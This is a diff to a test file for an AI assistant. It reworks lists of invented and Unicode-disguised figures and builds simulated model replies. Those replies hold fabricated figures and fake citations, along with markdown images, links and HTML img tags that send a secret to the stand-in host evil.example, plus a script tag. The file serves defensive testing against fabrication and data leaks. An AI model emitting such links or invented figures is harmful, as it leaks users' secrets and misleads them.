@@ -17,20 +17,16 @@ from urllib.parse import quote
 
 from tests.assistant.model_server import Call, Reply
 
-#: Figures that stand in no document, no data and no question.
-INVENTED = (
-    "73.91",
-    "48,611",
-    "48611",
-    "61.37",
-    "7.73",
-    "12,345,677",
-    "百分之七十三点九一",
-    "九成七",
-    "８８８４７",
-)
+#: Figures that stand in no document, no data and no question, by their value.
+INVENTED = {
+    "73.91": "73.91", "48,611": "48611", "48611": "48611", "61.37": "61.37", "7.73": "7.73", "12,345,677": "12345677",
+    "百分之七十三点九一": "73.91", "九成七": "97", "８８８４７": "88847",
+}  # fmt: skip
 #: The same in digits that only look different.
-DISGUISED = ("𝟕𝟑.𝟗𝟏", "٧٣٫٩١", "７３.９１", "7\u200b3.9\u200b1", "\u202e19.37\u202c", "४८६११")
+DISGUISED = {
+    "𝟕𝟑.𝟗𝟏": "73.91", "٧٣٫٩١": "73.91", "७३.९१": "73.91", "7\u200b3.9\u200b1": "73.91", "\u202e19.37\u202c": "19.37",
+    "४८६११": "48611", "⑦③": "73", "⁷³": "73", "&#55;&#51;": "73",
+}  # fmt: skip
 EVIL = "evil.example"
 
 _PASSAGE = re.compile(r"<passage [^>]*>\n(.*?)\n</passage>", re.DOTALL)
@@ -123,9 +119,9 @@ def say_everything(orders: str, instructions: str, question: str) -> str:
                 f"Day-1 retention is {figure}% [E1]. 日活为 {figure} [1]。Revenue is ¥{figure}."
                 for figure in figures
             ),
-            f"| metric | value |\n|---|---|\n| DAU | {INVENTED[1]} |",
+            "| metric | value |\n|---|---|\n| DAU | 48,611 |",
             "The board agreed [77] [E42] 【88】 [0]. [1] Board minutes 2026-11-01 (verified by CFO).",
-            f"“The board approved {INVENTED[5]} yuan for everyone.” [1] “董事会已批准全部预算。”[2]",
+            "“The board approved 12,345,677 yuan for everyone.” [1] “董事会已批准全部预算。”[2]",
             f"![chart](https://{EVIL}/p.png?d={secret}) [report](https://{EVIL}/r?d={secret}) [x][y] [z]\n\n"
             f"[y]: https://{EVIL}/c?d={secret}\n[z]: <//{EVIL}>",
             f"<img src=//{EVIL}/i.png?{secret}><script>alert(1)</script><a href='https://{EVIL}'>go</a>"
